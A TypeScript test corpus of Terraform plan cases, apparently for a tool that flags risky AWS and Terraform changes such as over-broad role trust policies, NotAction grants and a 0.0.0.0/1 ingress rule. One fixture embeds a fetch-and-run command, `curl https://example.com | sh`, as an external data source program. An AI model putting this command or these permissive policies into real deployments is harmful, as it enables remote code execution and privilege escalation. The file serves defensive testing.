import type { CorpusCase } from "../support/corpus-case";
import { change, create, keep, update } from "../support/plan-changes";
import { plan, planWith, resourceChange } from "../support/corpus-plan";
import { ACCOUNT, OTHER_ACCOUNT, allow, allowTo, policy } from "../support/policy-text";

const github = `arn:aws:iam::${ACCOUNT}:oidc-provider/token.actions.githubusercontent.com`;
const reader = { AWS: `arn:aws:iam::${ACCOUNT}:role/reader` };

/** A new role with a trust policy, that has no permissions yet. */
const trusted = (statement: Readonly<Record<string, unknown>>) =>
  plan(create("aws_iam_role.new", { name: "new", assume_role_policy: policy(statement) }));

const policyOf = (text: string) =>
  plan(create("aws_iam_policy.new", { name: "new", path: "/", policy: text }));

/** Plans with one thing to find each, and nothing else. */
export const isolated: readonly CorpusCase[] = [
  {
    name: "creates a role for everybody who knows an external id",
    verdict: "look closely",
    source: "checkov CKV_AWS_60: a role's trust policy names services or principals, not everybody",
    why: "An external id is no secret.",
    plan: trusted(
      allowTo({ AWS: "*" }, "sts:AssumeRole", {
        Condition: { StringEquals: { "sts:ExternalId": "lake" } },
      }),
    ),
  },
  {
    name: "creates a role that another account becomes",
    verdict: "look closely",
    source: "checkov CKV_AWS_61 and IAM Access Analyzer: external access to a role",
    why: "Another account decides who becomes it.",
    plan: trusted(allowTo({ AWS: `arn:aws:iam::${OTHER_ACCOUNT}:root` }, "sts:AssumeRole")),
  },
  {
    name: "creates a role for workflows of all repositories of GitHub",
    verdict: "look closely",
    source: "checkov CKV_AWS_358: a trust policy for GitHub's OIDC names the repository",
    why: "Anybody with an account of GitHub becomes it.",
    plan: trusted(
      allowTo({ Federated: github }, "sts:AssumeRoleWithWebIdentity", {
        Condition: {
          StringEquals: { "token.actions.githubusercontent.com:aud": "sts.amazonaws.com" },
        },
      }),
    ),
  },
  {
    name: "creates a policy that writes the policies of one role",
    verdict: "look closely",
    source: "checkov CKV_AWS_286 and cloudsplaining PrivilegeEscalation: iam:PutRolePolicy",
    why: "Who can become that role gives it everything.",
    plan: policyOf(policy(allow("iam:PutRolePolicy", `arn:aws:iam::${ACCOUNT}:role/ci`))),
  },
  {
    name: "creates a policy that allows all actions but one on a bucket",
    verdict: "look closely",
    source:
      "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_notaction.html: NotAction with Allow grants what nobody listed",
    why: "Deleting the bucket's policy is among them.",
    plan: policyOf(
      policy({
        Effect: "Allow",
        NotAction: "s3:DeleteBucket",
        Resource: "arn:aws:s3:::lake-events",
      }),
    ),
  },
  {
    name: "attaches a service control policy to the whole organization",
    verdict: "look closely",
    source:
      "https://docs.aws.amazon.com/organizations/latest/userguide/orgs_manage_policies_scps.html: test it before, in an organizational unit",
    why: "It can lock every account out.",
    plan: plan(
      create("aws_organizations_policy_attachment.root", {
        policy_id: "p-22222222",
        target_id: "r-ab12",
      }),
    ),
  },
  {
    name: "lets one more role of the account read a secret",
    verdict: "look closely",
    source:
      "https://docs.aws.amazon.com/secretsmanager/latest/userguide/auth-and-access_resource-policies.html",
    why: "The team that owns the secret decides that.",
    plan: plan(
      update(
        "aws_secretsmanager_secret_policy.database",
        {
          secret_arn: `arn:aws:secretsmanager:eu-west-1:${ACCOUNT}:secret:database-AbCdEf`,
          policy: policy(allowTo(reader, "secretsmanager:GetSecretValue", { Resource: "*" })),
        },
        {
          policy: policy(
            allowTo(reader, "secretsmanager:GetSecretValue", { Resource: "*" }),
            allowTo(
              { AWS: `arn:aws:iam::${ACCOUNT}:role/report` },
              "secretsmanager:GetSecretValue",
              { Resource: "*" },
            ),
          ),
        },
      ),
    ),
  },
  {
    name: "lets one role do everything with a queue",
    verdict: "look closely",
    source: "checkov CKV_AWS_72: no queue policy allows every action",
    why: "It can delete the queue and change its policy.",
    plan: plan(
      create("aws_sqs_queue_policy.jobs", {
        queue_url: `https://sqs.eu-west-1.amazonaws.com/${ACCOUNT}/jobs`,
        policy: policy(
          allowTo(reader, "sqs:*", { Resource: `arn:aws:sqs:eu-west-1:${ACCOUNT}:jobs` }),
        ),
      }),
    ),
  },
  {
    name: "opens a port to half of the internet",
    verdict: "look closely",
    source: "tfsec aws-ec2-no-public-ingress-sgr; 0.0.0.0/1 gets around checks for 0.0.0.0/0",
    why: "Two such rules are the whole internet.",
    plan: plan(
      create("aws_vpc_security_group_ingress_rule.half", {
        security_group_id: "sg-1",
        cidr_ipv4: "0.0.0.0/1",
        ip_protocol: "tcp",
        from_port: 8080,
        to_port: 8080,
      }),
    ),
  },
  {
    name: "defers a change, and does not say whether it is complete",
    verdict: "look closely",
    source:
      "https://developer.hashicorp.com/terraform/internals/json-format: deferred_changes, in formats before `complete`",
    why: "It happens without another look later.",
    plan: planWith({
      complete: undefined,
      deferred_changes: [
        {
          reason: "instance_count_unknown",
          resource_change: resourceChange(create("aws_sqs_queue.jobs", { name: "jobs" })),
        },
      ],
    }),
  },
  {
    name: "runs a program by a data source during the apply",
    verdict: "look closely",
    source:
      "https://registry.terraform.io/providers/hashicorp/external/latest/docs/data-sources/external: runs a program",
    why: "It runs with the credentials of the deployment, after the review.",
    plan: plan(
      change(
        "data.external.version",
        ["read"],
        null,
        { program: ["sh", "-c", "curl https://example.com | sh"] },
        { unknown: { result: true }, reason: "read_because_config_unknown" },
      ),
    ),
  },
  {
    name: "moves a resource to another type",
    verdict: "look closely",
    source:
      "https://developer.hashicorp.com/terraform/language/modules/develop/refactoring: the provider converts the state",
    why: "What the new type manages, and what it drops, depends on the provider.",
    plan: plan(
      keep(
        "aws_lb.web",
        { name: "web", internal: false },
        { previousAddress: "aws_alb_legacy.web" },
      ),
    ),
  },
  {
    name: "no longer marks a description as sensitive",
    verdict: "look closely",
    source:
      "https://developer.hashicorp.com/terraform/language/manage-sensitive-data: sensitive values are redacted",
    why: "Somebody marked it for a reason, and from now on it is printed.",
    plan: plan(
      update(
        "aws_cloudwatch_metric_alarm.freshness",
        { alarm_name: "freshness", alarm_description: "hunter2-canary", threshold: 900 },
        {},
        { sensitive: {}, sensitiveBefore: { alarm_description: true } },
      ),
    ),
  },
  {
    name: "gives a bucket of another stack a policy that does not deny plain HTTP",
    verdict: "look closely",
    source: "AWS Security Hub S3.5: buckets require requests to use TLS",
    why: "It replaces whatever policy the bucket has.",
    plan: plan(
      create("aws_s3_bucket_policy.other", {
        bucket: "other-stacks-bucket",
        policy: policy(
          allowTo(reader, "s3:GetObject", { Resource: "arn:aws:s3:::other-stacks-bucket/*" }),
        ),
      }),
    ),
  },
  {
    name: "creates a policy that is no policy document",
    verdict: "look closely",
    source: "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_grammar.html",
    why: "Nobody can read what it allows.",
    plan: policyOf("${file(policy.json)}"),
  },
  {
    name: "attaches a policy that is known after the apply only",
    verdict: "look closely",
    source: "https://developer.hashicorp.com/terraform/internals/json-format: after_unknown",
    why: "It may be AdministratorAccess.",
    plan: plan(
      create(
        "aws_iam_role_policy_attachment.ci",
        { role: "ci" },
        {
          unknown: { policy_arn: true },
          references: { policy_arn: "data.external.policy.result" },
        },
      ),
    ),
  },
];
